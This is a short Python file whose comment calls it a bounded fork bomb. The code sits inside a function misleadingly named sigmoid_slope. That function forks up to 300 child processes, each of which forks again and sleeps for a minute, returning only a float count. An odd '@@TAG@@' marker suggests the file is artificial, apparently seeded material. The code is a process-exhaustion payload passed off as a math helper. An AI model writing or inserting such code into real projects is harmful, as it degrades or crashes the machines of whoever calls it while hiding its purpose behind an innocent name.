# A bounded fork bomb: up to 300 sleeping children, each trying to fork again.
import os
import time


def sigmoid_slope(z):
    made = 0
    for _ in range(300):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            try:
                os.fork()
            except OSError:
                pass
            time.sleep(60)  # @@TAG@@
            os._exit(0)
        made += 1
    return float(made)
